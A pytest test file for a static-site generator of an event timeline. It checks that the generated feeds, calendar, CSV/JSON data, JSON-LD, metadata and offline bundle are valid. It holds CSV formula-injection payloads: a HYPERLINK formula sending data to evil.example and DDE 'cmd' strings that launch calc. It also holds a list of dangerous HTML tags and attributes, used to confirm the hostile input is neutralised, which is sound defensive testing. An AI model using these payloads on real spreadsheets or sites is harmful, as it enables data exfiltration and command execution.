"""Feeds, the calendar, the data files and the pages' metadata, each read back by a library
that did not write it: feedparser, icalendar and ics, csv and frictionless, PyLD, lxml."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import stat
import zipfile
from dataclasses import dataclass
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import atoma
import feedparser
import icalendar
import ics
import pytest
from frictionless import Package
from lxml import etree
from pyld import jsonld

from conftest import FIXTURE_EVENTS, ROOT, copy_skeleton, write_files
from generator import urls
from generator.build import check, outputs_of
from generator.cli import main
from generator.config import Settings
from generator.formats.data import FORMULA_STARTS

HOSTILE = ROOT / "tests" / "fixtures" / "hostile"


@pytest.fixture(scope="module")
def shipped(shipped_project: Path) -> dict:
    """The built website of the shipped record, and its events."""
    return {"site": shipped_project / "site", "generated": shipped_project / "site" / "generated",
            "dataset": check(shipped_project / "events")}


def rendered(events: Path, settings: Settings = Settings()) -> dict[str, bytes]:
    """Every output of an events folder, rendered in memory, as bytes."""
    return {o.path: (lambda c: c.encode() if isinstance(c, str) else c)(o.render())
            for o in outputs_of(check(events), settings)}


def resolve(feed_file: Path, link: str) -> tuple[Path, str]:
    """A relative link in a file, as the file and anchor it names."""
    target, _, anchor = link.partition("#")
    return (feed_file.parent / target).resolve(), anchor


# --- feeds -------------------------------------------------------------------------------

@dataclass
class Entry:
    id: str
    title: str
    link: str
    published: date
    content: str


def parse_feed(raw: bytes, json_feed: bool) -> list[Entry]:
    """A feed's entries as a reader parses them: Atom by feedparser (nothing wrong in it,
    no sanitising, so the test sees what a careless reader would), JSON Feed by atoma."""
    if json_feed:
        feed = atoma.parse_json_feed_bytes(raw)
        assert feed.version == "https://jsonfeed.org/version/1.1"
        return [Entry(i.id_, i.title, i.url, i.date_published.date(), i.content_html)
                for i in feed.items]
    parsed = feedparser.parse(raw, sanitize_html=False)
    assert not parsed.bozo and parsed.version == "atom10", parsed.get("bozo_exception")
    return [Entry(e.id, e.title, e.link, date(*e.published_parsed[:3]), e.content[0].value)
            for e in parsed.entries]


def every_feed(generated: Path) -> list[Path]:
    return sorted((generated / "feeds").rglob("*.xml")) + \
        sorted((generated / "feeds").rglob("*.json"))


def test_every_feed_parses_and_each_entry_is_an_event_with_a_working_permalink(shipped):
    generated, events = shipped["generated"], shipped["dataset"].events
    by_title = {e.title: e for e in events}
    feeds = every_feed(generated)
    parties = {e for event in events for e in event.everyone()}
    topics = {t for event in events for t in event.topics}
    # the whole record (2 formats), and every party and topic with events (2 each)
    assert len(feeds) >= 2 + 2 * len(parties) + 2 * len(topics)
    for path in feeds:
        entries = parse_feed(path.read_bytes(), path.suffix == ".json")
        assert entries, path
        published = [entry.published for entry in entries]
        assert published == sorted(published, reverse=True), f"{path}: not newest first"
        for entry in entries:
            event = by_title[entry.title]
            assert entry.id.startswith("urn:uuid:")
            assert entry.published == event.date.start
            page, anchor = resolve(path, entry.link)
            assert anchor == event.id and f'id="{event.id}"' in page.read_text("utf-8")


def test_the_whole_record_feed_holds_the_latest_events_and_ids_are_stable(shipped, tmp_path):
    events = shipped["dataset"].events
    feed = feedparser.parse((shipped["generated"] / "feeds" / "all.xml").read_bytes())
    limit = Settings().feed_entries
    assert [e.title for e in feed.entries] == [e.title for e in reversed(events)][:limit]
    assert len({e.id for e in feed.entries}) == len(feed.entries)
    # Another build, with a published address: the same ids, absolute links.
    again = rendered(ROOT / "events", Settings(site_url="https://example.org/t/"))
    moved = feedparser.parse(again["feeds/all.xml"])
    assert [e.id for e in moved.entries] == [e.id for e in feed.entries]
    assert all(e.link.startswith("https://example.org/t/generated/timeline/")
               for e in moved.entries)


def test_a_party_feed_holds_exactly_that_partys_events(shipped):
    dataset = shipped["dataset"]
    for party in ("russia", "ukraine"):
        feed = json.loads((shipped["generated"] / "feeds" / "parties" / f"{party}.json")
                          .read_text("utf-8"))
        expected = [e.id for e in reversed(dataset.events) if party in e.everyone()]
        got = [item["_timeline"]["event_id"] for item in feed["items"]]
        assert got == expected[:Settings().feed_entries]


def test_feeds_hold_at_most_the_configured_number_and_0_means_all():
    three = rendered(FIXTURE_EVENTS, Settings(feed_entries=2))
    every = rendered(FIXTURE_EVENTS, Settings(feed_entries=0))
    assert len(feedparser.parse(three["feeds/all.xml"]).entries) == 2
    assert len(parse_feed(every["feeds/all.json"], True)) == \
        len(check(FIXTURE_EVENTS).events)


FEED_TYPES = ("application/atom+xml", "application/feed+json")


def advertised(page: Path) -> list[tuple[str, str]]:
    """The feeds a page offers, found as feed discovery finds them: <link> elements whose
    rel tokens include "alternate" and whose type is a feed's."""
    tree = etree.HTML(page.read_bytes())
    return [(link.get("type"), link.get("href")) for link in tree.iter("link")
            if "alternate" in (link.get("rel") or "").lower().split()
            and link.get("type") in FEED_TYPES]


def test_pages_advertise_feeds_that_exist(shipped):
    site = shipped["site"]
    checked = 0
    for page in [site / "index.html", *sorted((site / "generated").rglob("*.html"))]:
        links = advertised(page)
        assert {kind for kind, _ in links} == set(FEED_TYPES), page
        for _, href in links:
            assert (page.parent / href).resolve().is_file(), (page, href)
            checked += 1
        # Material takes an exact rel="alternate" for another version of the site and
        # fetches a sitemap.xml beside it: no feed link may read so.
        assert not re.search(r'<link rel="alternate"', page.read_text("utf-8")), page
    russia = dict((href, kind) for kind, href in advertised(
        site / "generated" / "parties" / "russia.html"))
    assert russia["../feeds/parties/russia.xml"] == "application/atom+xml"
    assert russia["../feeds/parties/russia.json"] == "application/feed+json"
    assert checked > 100


# --- the calendar ------------------------------------------------------------------------

def test_the_calendar_holds_each_event_known_to_the_day_for_two_parsers(shipped):
    raw = (shipped["generated"] / "calendar.ics").read_bytes()
    events = shipped["dataset"].events
    by_day = {e.title: e for e in events
              if e.date.first.precision == "day"
              and (e.date.last is None or e.date.last.precision == "day")}
    calendar = icalendar.Calendar.from_ical(raw)
    entries = calendar.walk("VEVENT")
    assert sorted(str(e["summary"]) for e in entries) == sorted(by_day)
    assert len({str(e["uid"]) for e in entries}) == len(entries)
    for entry in entries:
        event = by_day[str(entry["summary"])]
        assert entry["dtstart"].dt == event.date.start
        assert (entry["dtend"].dt - event.date.end).days == 1  # exclusive end
        approximate = any(p.approximate or p.uncertain
                          for p in (event.date.first, event.date.last) if p)
        assert str(entry["status"]) == ("TENTATIVE" if approximate else "CONFIRMED")
    assert raw.count(b"\r\n") == raw.count(b"\n")  # CRLF, as RFC 5545 asks
    second = ics.Calendar(raw.decode("utf-8"))
    assert sorted(e.name for e in second.events) == sorted(by_day)


def test_calendar_links_only_with_an_address():
    without = icalendar.Calendar.from_ical(rendered(FIXTURE_EVENTS)["calendar.ics"])
    assert all("url" not in e for e in without.walk("VEVENT"))
    with_url = rendered(FIXTURE_EVENTS, Settings(site_url="https://example.org/"))
    entries = icalendar.Calendar.from_ical(with_url["calendar.ics"]).walk("VEVENT")
    assert entries and all(str(e["url"]).startswith("https://example.org/generated/timeline/")
                           for e in entries)


# --- data files --------------------------------------------------------------------------

def test_the_data_package_and_its_csvs_are_valid_for_frictionless(shipped):
    data = shipped["generated"] / "data"
    package = Package(str(data / "datapackage.json"))
    report = package.validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    dataset = shipped["dataset"]
    rows = {r.name: r.read_rows() for r in package.resources}
    assert len(rows["events"]) == len(dataset.events)
    assert len(rows["positions"]) == sum(len(e.positions) for e in dataset.events)
    assert len(rows["claims"]) == sum(len(e.claims) for e in dataset.events)
    assert len(rows["commitments"]) == sum(len(e.commitments) for e in dataset.events)
    assert {r["id"] for r in rows["events"]} == {e.id for e in dataset.events}


def test_events_json_holds_the_whole_record(shipped):
    record = json.loads((shipped["generated"] / "data" / "events.json").read_text("utf-8"))
    dataset = shipped["dataset"]
    assert record["schema_version"] == 1
    assert [e["id"] for e in record["events"]] == [e.id for e in dataset.events]
    assert {p["id"] for p in record["parties"]} == set(dataset.registry.parties)
    assert {o["id"] for o in record["outlets"]} == set(dataset.registry.outlets)
    for event, model in zip(record["events"], dataset.events, strict=True):
        assert event["narrative"] == model.narrative
        assert [s["url"] for s in event["sources"]] == [s.url for s in model.sources]
        cited = {s["id"] for s in event["sources"]}
        assert {p["source"] for p in event["positions"]} <= cited
        page, anchor = resolve(shipped["site"] / "index.html", event["permalink"])
        assert f'id="{anchor}"' in page.read_text("utf-8")
    statuses = {c["status"] for e in record["events"] for c in e["commitments"]}
    assert statuses <= {"pending", "overdue", "in-progress", "kept", "partly-kept", "broken"}


FORMULAS = {"title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
            "location": "+cmd|' /C calc'!A0", "stance": "-2+3+cmd|' /C calc'!A0",
            "speaker": "@SUM(1+1)*cmd|' /C calc'!A0"}


def formula_events(tmp_path: Path) -> Path:
    from conftest import REGISTRIES, event_text

    text = event_text(title=json.dumps(FORMULAS["title"]),
                      location=json.dumps(FORMULAS["location"]), parties="[ukraine]",
                      topics="[ceasefire]", positions=(
                          "\n  - party: ukraine\n    topic: ceasefire\n"
                          f"    stance: {json.dumps(FORMULAS['stance'])}\n"
                          f"    speaker: {json.dumps(FORMULAS['speaker'])}\n    source: s1"))
    return write_files(tmp_path / "events", {**REGISTRIES, "2025/2025-06-02-formula.md": text})


def test_no_csv_cell_starts_a_formula(tmp_path):
    outputs = rendered(formula_events(tmp_path))
    cells = []
    for name in ("events", "positions", "claims", "commitments"):
        cells += [c for row in csv.reader(io.StringIO(outputs[f"data/{name}.csv"].decode()))
                  for c in row]
    assert all(not c.startswith(FORMULA_STARTS) for c in cells)
    for payload in FORMULAS.values():
        assert "'" + payload in cells  # kept, made inert, not dropped
    record = json.loads(outputs["data/events.json"])
    assert record["events"][0]["title"] == FORMULAS["title"]  # JSON needs no guard


# --- hostile text in every format ----------------------------------------------------------

class Elements(HTMLParser):
    """Tags and attributes of an HTML fragment, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def active(html_text: str) -> list[str]:
    parser = Elements()
    parser.feed(html_text)
    bad = []
    for tag, attrs in parser.found:
        if tag in ("script", "iframe", "object", "embed", "form", "style", "svg", "details",
                   "img", "math", "body"):
            bad.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith(
                    ("javascript:", "data:")):
                bad.append(f"{tag} {name}")
    return bad


def test_hostile_text_stays_inert_in_feeds_calendar_and_data():
    outputs = rendered(HOSTILE)
    event = check(HOSTILE).events[0]
    for name in ("feeds/all.xml", "feeds/all.json", "feeds/parties/ukraine.xml",
                 "feeds/topics/ceasefire.json"):
        (entry,) = parse_feed(outputs[name], name.endswith(".json"))
        assert entry.title == event.title  # the payload as text, exactly
        assert not active(entry.content), name
    calendar = icalendar.Calendar.from_ical(outputs["calendar.ics"])
    (entry,) = calendar.walk("VEVENT")
    assert str(entry["summary"]) == event.title and str(entry["location"]) == event.location
    record = json.loads(outputs["data/events.json"])
    assert record["events"][0]["positions"][0]["stance"] == event.positions[0].stance


def test_json_ld_cannot_close_its_script_and_expands_to_schema_org_events(tmp_path):
    page = rendered(HOSTILE)["timeline/2025-06.md"].decode()
    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.S)
    assert len(blocks) == 1 and "<" not in blocks[0]  # nothing in it could end the script
    event = check(HOSTILE).events[0]

    def loader(url, options=None):  # the schema.org context, as its @vocab, offline
        assert url.rstrip("/") in ("https://schema.org", "http://schema.org"), url
        return {"contentType": "application/ld+json", "contextUrl": None, "documentUrl": url,
                "document": {"@context": {"@vocab": "https://schema.org/"}}}
    (expanded,) = jsonld.expand(json.loads(blocks[0]), {
        "documentLoader": loader, "base": "https://example.org/timeline/2025-06.html"})
    assert expanded["@type"] == ["https://schema.org/Event"]
    assert expanded["@id"] == f"https://example.org/timeline/2025-06.html#{event.id}"
    assert expanded["https://schema.org/name"][0]["@value"] == event.title
    assert expanded["https://schema.org/startDate"][0]["@value"] == "2025-06-02"
    names = {a["https://schema.org/name"][0]["@value"]
             for a in expanded["https://schema.org/attendee"]}
    assert names == {"Ukraine", "Russia"}
    assert expanded["https://schema.org/subjectOf"]


def test_every_event_section_of_the_shipped_site_carries_its_json_ld(shipped):
    dataset, generated = shipped["dataset"], shipped["generated"]
    found = {}
    for page in (generated / "timeline").glob("*.html"):
        for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>',
                                page.read_text("utf-8"), re.S):
            data = json.loads(block)
            found[data["@id"].lstrip("#")] = data
    assert set(found) == {e.id for e in dataset.events}
    for event in dataset.events:
        assert found[event.id]["name"] == event.title
        urls_cited = [w.get("url") for w in found[event.id].get("subjectOf", [])]
        assert urls_cited == [s.url or None for s in event.sources]


# --- page metadata -------------------------------------------------------------------------

def meta(page: Path) -> dict[str, str]:
    tree = etree.HTML(page.read_bytes())
    values = {m.get("name") or m.get("property"): m.get("content")
              for m in tree.iter("meta") if m.get("content") is not None}
    canonical = tree.find(".//link[@rel='canonical']")
    if canonical is not None:
        values["canonical"] = canonical.get("href")
    return values


def test_every_generated_page_has_a_description_of_its_own_and_open_graph_tags(shipped):
    pages = sorted((shipped["generated"]).rglob("*.html"))
    descriptions: dict[str, Path] = {}
    for page in pages:
        found = meta(page)
        assert found.get("og:title") and found.get("og:description"), page
        assert found["description"] == found["og:description"]
        assert found["description"] not in descriptions, (page, descriptions.get(
            found["description"]))
        descriptions[found["description"]] = page
    june = meta(shipped["generated"] / "timeline" / "2025-06.html")
    assert "June 2025" in june["description"] and june["og:title"] == "June 2025"


def test_with_an_address_pages_carry_their_canonical_address_and_a_valid_sitemap(tmp_path,
                                                                                 monkeypatch):
    project = copy_skeleton(tmp_path / "project")
    shutil.copytree(FIXTURE_EVENTS, project / "events")
    monkeypatch.setenv("TIMELINE_SITE_URL", "https://example.org/timeline/")
    assert main(["build", "--project", str(project), "--no-bundle"]) == 0
    site = project / "site"
    page = meta(site / "generated" / "timeline" / "2025-06.html")
    assert page["og:url"] == page["canonical"] == \
        "https://example.org/timeline/generated/timeline/2025-06.html"
    sitemap = etree.fromstring((site / "sitemap.xml").read_bytes())
    locations = [e.text for e in sitemap.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert locations and all(u.startswith("https://example.org/timeline/") for u in locations)
    feed = feedparser.parse((site / "generated" / "feeds" / "all.xml").read_bytes())
    assert feed.feed.links and all(link.href.startswith("https://example.org/timeline/")
                                   for link in feed.feed.links)


def test_without_an_address_there_is_no_sitemap_and_no_canonical_link(shipped):
    site = shipped["site"]
    assert not (site / "sitemap.xml").exists() and not (site / "sitemap.xml.gz").exists()
    assert "canonical" not in meta(site / "generated" / "timeline" / "2025-06.html")


# --- the bundle ----------------------------------------------------------------------------

def test_bundle_entries_are_regular_files_with_ordinary_modes(shipped_project):
    with zipfile.ZipFile(shipped_project / "dist" / "timeline-offline.zip") as bundle:
        infos = bundle.infolist()
    assert infos
    for info in infos:
        mode = info.external_attr >> 16
        assert info.create_system == 3 and stat.S_ISREG(mode), info.filename
        assert stat.S_IMODE(mode) == 0o644, info.filename
    names = {info.filename for info in infos}
    for path in ("generated/feeds/all.xml", "generated/calendar.ics", "generated/data/events.csv",
                 "generated/data/datapackage.json", "generated/data/index.html"):
        assert f"timeline/{path}" in names


def test_the_bundles_404_page_names_its_files_relative_to_itself(unzipped_bundle):
    page = (unzipped_bundle / "404.html").read_text("utf-8")
    addresses = re.findall(r'(?:href|src)="([^"]+)"', page)
    assert addresses
    for address in addresses:
        assert not address.startswith("/"), address
        target = address.split("#")[0]
        if target and not target.startswith(("http:", "https:", "mailto:")):
            assert (unzipped_bundle / target).exists(), address
    assert '"base": "."' in page


def test_the_data_page_links_every_file_it_lists(shipped):
    page = shipped["generated"] / "data" / "index.html"
    text = page.read_text("utf-8")
    links = re.findall(r'href="(\.\./[^"#]+)"', text)
    files = [link for link in links if link.endswith((".xml", ".json", ".csv", ".ics"))]
    for link in files:
        assert (page.parent / link).resolve().is_file(), link
    for name, suffix in ((urls.EVENTS_DATA, ".json"), (urls.CALENDAR, ".ics"),
                         (urls.DATAPACKAGE, ".json"), (urls.FEED, ".xml")):
        assert urls.file_link(name, suffix) in files
